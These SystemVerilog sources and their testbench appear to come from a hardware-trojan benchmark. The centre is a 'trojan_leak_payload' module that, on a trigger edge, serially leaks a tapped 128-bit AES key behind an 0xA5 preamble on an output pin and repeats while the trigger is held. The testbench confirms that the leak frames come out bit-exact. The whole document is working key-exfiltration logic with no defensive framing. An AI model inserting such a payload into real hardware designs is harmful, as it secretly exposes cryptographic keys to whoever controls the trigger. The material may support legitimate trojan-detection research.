// File: rtl/tj_pkg.sv
// Shared definitions for the Tj_Trig payload slice.
//   leak_state_t  : payload FSM states
//   KEY_W_DEF     : default key width
//   PREAMBLE_DEF  : default frame-start pattern
//   FRAME_BITS    : preamble + key bits per frame at the default key width
package tj_pkg;

  typedef enum logic [1:0] {
    IDLE = 2'd0,
    PRE  = 2'd1,
    DATA = 2'd2,
    GAP  = 2'd3
  } leak_state_t;

  localparam int unsigned KEY_W_DEF    = 128;
  localparam logic [7:0]  PREAMBLE_DEF = 8'hA5;
  localparam int unsigned FRAME_BITS   = 8 + KEY_W_DEF;

endpackage

// File: rtl/trojan_leak_payload_if.sv
// Trigger/key/leak bundle between the TjIn wrapper and the leak payload.
//   Tj_Trig    : trigger level from the trigger block
//   key        : AES key tap
//   leak_out   : serial leak bit
//   leak_valid : high while a preamble/key bit is on leak_out
//   busy       : payload not idle
// master = wrapper side (drives trigger/key), slave = payload.
interface trojan_leak_payload_if #(
  parameter int unsigned KEY_W = 128
);
  logic             Tj_Trig;
  logic [KEY_W-1:0] key;
  logic             leak_out;
  logic             leak_valid;
  logic             busy;

  modport master (
    output Tj_Trig, key,
    input  leak_out, leak_valid, busy
  );

  modport slave (
    input  Tj_Trig, key,
    output leak_out, leak_valid, busy
  );
endinterface

// File: rtl/tj_bit_timer.sv
// Free-running period divider with a one-cycle tick.
//   clk, rst : clock, synchronous active-high reset
//   clr      : restart the count at 0 (wins over en)
//   en       : count enable; the counter holds while low
//   tick     : high during the last cycle of each PERIOD-cycle window
module tj_bit_timer #(
  parameter int unsigned PERIOD = 4
) (
  input  logic clk,
  input  logic rst,
  input  logic clr,
  input  logic en,
  output logic tick
);
  localparam int unsigned   CW   = (PERIOD > 1) ? $clog2(PERIOD) : 1;
  localparam logic [CW-1:0] LAST = CW'(PERIOD - 1);

  logic [CW-1:0] cnt;

  // Tick is independent of clr so the caller may derive clr from tick.
  assign tick = en && (cnt == LAST);

  always_ff @(posedge clk) begin
    if (rst || clr) begin
      cnt <= '0;
    end else if (en) begin
      cnt <= tick ? '0 : cnt + CW'(1);
    end
  end
endmodule

// File: rtl/trojan_leak_payload.sv
// Payload end of the Tj_Trig interface. On a rising edge of Tj_Trig while
// idle, serialises {PREAMBLE, key} MSB first on leak_out, each bit held
// BIT_DIV cycles, followed by GAP_CYC idle cycles. If Tj_Trig is still high
// at the end of the gap a new frame with a freshly sampled key follows.
//   clk, rst : clock, synchronous active-high reset
//   bus      : slave modport (Tj_Trig, key in; leak_out, leak_valid, busy out)
// All outputs are registered.
module trojan_leak_payload
  import tj_pkg::*;
#(
  parameter int unsigned KEY_W    = KEY_W_DEF,
  parameter logic [7:0]  PREAMBLE = PREAMBLE_DEF,
  parameter int unsigned BIT_DIV  = 4,
  parameter int unsigned GAP_CYC  = 16
) (
  input  logic                  clk,
  input  logic                  rst,
  trojan_leak_payload_if.slave  bus
);
  localparam int unsigned    FRAME_W  = 8 + KEY_W;
  localparam int unsigned    BCW      = $clog2(FRAME_W);
  localparam logic [BCW-1:0] PRE_LAST = BCW'(7);
  localparam logic [BCW-1:0] BIT_LAST = BCW'(FRAME_W - 1);

  leak_state_t        state_q, state_d;
  logic [FRAME_W-1:0] shreg_q, shreg_d;
  logic [BCW-1:0]     bit_cnt_q, bit_cnt_d;
  logic               trig_q;
  logic               start;
  logic               load;
  logic               shifting;
  logic               bit_tick, gap_tick;
  logic               leak_out_d, leak_valid_d, busy_d;
  logic               leak_out_q, leak_valid_q, busy_q;

  assign start    = bus.Tj_Trig & ~trig_q;
  assign shifting = (state_q == PRE) || (state_q == DATA);

  tj_bit_timer #(.PERIOD(BIT_DIV)) u_bit_timer (
    .clk  (clk),
    .rst  (rst),
    .clr  (load),
    .en   (shifting),
    .tick (bit_tick)
  );

  tj_bit_timer #(.PERIOD(GAP_CYC)) u_gap_timer (
    .clk  (clk),
    .rst  (rst),
    .clr  (state_q != GAP),
    .en   (state_q == GAP),
    .tick (gap_tick)
  );

  always_comb begin
    state_d   = state_q;
    shreg_d   = shreg_q;
    bit_cnt_d = bit_cnt_q;
    load      = 1'b0;

    unique case (state_q)
      IDLE: begin
        if (start) begin
          load    = 1'b1;
          state_d = PRE;
        end
      end
      PRE, DATA: begin
        if (bit_tick) begin
          shreg_d   = shreg_q << 1;
          bit_cnt_d = bit_cnt_q + BCW'(1);
          if (state_q == PRE && bit_cnt_q == PRE_LAST) begin
            state_d = DATA;
          end
          if (state_q == DATA && bit_cnt_q == BIT_LAST) begin
            state_d   = GAP;
            bit_cnt_d = '0;
          end
        end
      end
      GAP: begin
        if (gap_tick) begin
          if (bus.Tj_Trig) begin
            load    = 1'b1;
            state_d = PRE;
          end else begin
            state_d = IDLE;
          end
        end
      end
      default: state_d = IDLE;
    endcase

    if (load) begin
      shreg_d   = {PREAMBLE, bus.key};
      bit_cnt_d = '0;
    end

    // Outputs are computed from next state so they land one cycle after the
    // start edge rather than two.
    leak_valid_d = (state_d == PRE) || (state_d == DATA);
    leak_out_d   = leak_valid_d & shreg_d[FRAME_W-1];
    busy_d       = (state_d != IDLE);
  end

  // trig_q keeps sampling through reset: a level already high when reset
  // releases is not a rising edge and must not start a frame.
  always_ff @(posedge clk) begin
    trig_q <= bus.Tj_Trig;
  end

  always_ff @(posedge clk) begin
    if (rst) begin
      state_q      <= IDLE;
      shreg_q      <= '0;
      bit_cnt_q    <= '0;
      leak_out_q   <= 1'b0;
      leak_valid_q <= 1'b0;
      busy_q       <= 1'b0;
    end else begin
      state_q      <= state_d;
      shreg_q      <= shreg_d;
      bit_cnt_q    <= bit_cnt_d;
      leak_out_q   <= leak_out_d;
      leak_valid_q <= leak_valid_d;
      busy_q       <= busy_d;
    end
  end

  assign bus.leak_out   = leak_out_q;
  assign bus.leak_valid = leak_valid_q;
  assign bus.busy       = busy_q;
endmodule

// File: tb/tb_trojan_leak_payload.sv
module tb_trojan_leak_payload;
  logic clk = 1'b0;
  logic rst;

  always #5 clk = ~clk;

  trojan_leak_payload_if #(.KEY_W(128)) bus1 ();
  trojan_leak_payload_if #(.KEY_W(128)) bus2 ();

  trojan_leak_payload u_dut (
    .clk (clk),
    .rst (rst),
    .bus (bus1)
  );

  trojan_leak_payload #(.BIT_DIV(1), .GAP_CYC(2)) u_dut_fast (
    .clk (clk),
    .rst (rst),
    .bus (bus2)
  );

  // Each entry is the expected {busy, leak_valid, leak_out} for one cycle.
  logic [2:0] exp_q1[$];
  logic [2:0] exp_q2[$];

  int    n_checks = 0;
  int    n_pass   = 0;
  bit    mon_on   = 1'b0;
  string phase    = "init";

  localparam logic [127:0] KEY_A = 128'h000102030405060708090a0b0c0d0e0f;

  task automatic check(input string tag, input logic [31:0] got, input logic [31:0] exp);
    n_checks++;
    if (got === exp) n_pass++;
    else $display("FAIL %s: got %h expected %h", tag, got, exp);
  endtask

  task automatic push_frame(input int unit, input logic [127:0] k,
                            input int bit_div, input int gap);
    logic [135:0] vec;
    vec = {8'hA5, k};
    for (int i = 0; i < 136; i++) begin
      for (int d = 0; d < bit_div; d++) begin
        if (unit == 1) exp_q1.push_back({2'b11, vec[135-i]});
        else           exp_q2.push_back({2'b11, vec[135-i]});
      end
    end
    for (int g = 0; g < gap; g++) begin
      if (unit == 1) exp_q1.push_back(3'b100);
      else           exp_q2.push_back(3'b100);
    end
  endtask

  task automatic step(input int n);
    repeat (n) @(negedge clk);
    #1;
  endtask

  task automatic wait_drain(input int unit, input int budget);
    int n;
    int left;
    n    = 0;
    left = (unit == 1) ? exp_q1.size() : exp_q2.size();
    while (left > 0 && n < budget) begin
      @(negedge clk);
      n++;
      left = (unit == 1) ? exp_q1.size() : exp_q2.size();
    end
    #1;
    left = (unit == 1) ? exp_q1.size() : exp_q2.size();
    check({phase, "/drain"}, left, 0);
  endtask

  // Scoreboard: pop the expected sample when one is queued, otherwise the
  // payload must be idle.
  always @(negedge clk) begin
    if (mon_on) begin
      logic [2:0] obs;
      obs = {bus1.busy, bus1.leak_valid, bus1.leak_out};
      if (exp_q1.size() > 0) check({phase, "/u1_frame"}, obs, exp_q1.pop_front());
      else                   check({phase, "/u1_idle"}, obs, 3'b000);
      obs = {bus2.busy, bus2.leak_valid, bus2.leak_out};
      if (exp_q2.size() > 0) check({phase, "/u2_frame"}, obs, exp_q2.pop_front());
      else                   check({phase, "/u2_idle"}, obs, 3'b000);
    end
  end

  initial begin
    #1_000_000;
    $display("FAIL watchdog: got timeout expected completion");
    $fatal(1, "watchdog");
  end

  initial begin
    logic [127:0] key_r;

    rst          = 1'b1;
    bus1.Tj_Trig = 1'b1;
    bus2.Tj_Trig = 1'b1;
    bus1.key     = '0;
    bus2.key     = '0;

    // Reset with trigger held high; release must not start a frame.
    phase = "reset";
    step(1);
    mon_on = 1'b1;
    step(2);
    rst   = 1'b0;
    phase = "no_edge";
    step(10);
    bus1.Tj_Trig = 1'b0;
    bus2.Tj_Trig = 1'b0;
    step(2);

    // Single frame, trigger dropped at N+5.
    phase        = "single";
    bus1.key     = KEY_A;
    bus1.Tj_Trig = 1'b1;
    push_frame(1, KEY_A, 4, 16);
    step(5);
    bus1.Tj_Trig = 1'b0;
    wait_drain(1, 700);
    step(3);

    // Held trigger: second frame carries the key present at reload.
    phase        = "repeat";
    bus1.key     = KEY_A;
    bus1.Tj_Trig = 1'b1;
    push_frame(1, KEY_A, 4, 16);
    push_frame(1, '1, 4, 16);
    step(100);
    bus1.key = '1;
    step(600);
    bus1.Tj_Trig = 1'b0;
    wait_drain(1, 1000);
    step(3);

    // Retrigger and key change during DATA are ignored.
    phase        = "retrig";
    key_r        = {$urandom, $urandom, $urandom, $urandom};
    bus1.key     = key_r;
    bus1.Tj_Trig = 1'b1;
    push_frame(1, key_r, 4, 16);
    step(3);
    bus1.Tj_Trig = 1'b0;
    step(100);
    bus1.Tj_Trig = 1'b1;
    bus1.key     = ~key_r;
    step(2);
    bus1.Tj_Trig = 1'b0;
    step(5);
    bus1.Tj_Trig = 1'b1;
    step(3);
    bus1.Tj_Trig = 1'b0;
    wait_drain(1, 700);
    step(3);

    // Reset in the middle of DATA aborts the frame immediately.
    phase        = "rst_mid";
    bus1.key     = KEY_A;
    bus1.Tj_Trig = 1'b1;
    push_frame(1, KEY_A, 4, 16);
    step(192);
    rst = 1'b1;
    exp_q1.delete();
    step(1);
    rst = 1'b0;
    step(5);
    bus1.Tj_Trig = 1'b0;
    step(2);
    phase        = "after_rst";
    bus1.Tj_Trig = 1'b1;
    push_frame(1, KEY_A, 4, 16);
    step(2);
    bus1.Tj_Trig = 1'b0;
    wait_drain(1, 700);
    step(3);

    // BIT_DIV=1, GAP_CYC=2 instance.
    phase        = "div1";
    bus2.key     = 128'h1;
    bus2.Tj_Trig = 1'b1;
    push_frame(2, 128'h1, 1, 2);
    step(1);
    bus2.Tj_Trig = 1'b0;
    wait_drain(2, 300);
    step(3);

    mon_on = 1'b0;
    $display("%0d/%0d checks passed", n_pass, n_checks);
    $finish;
  end
endmodule
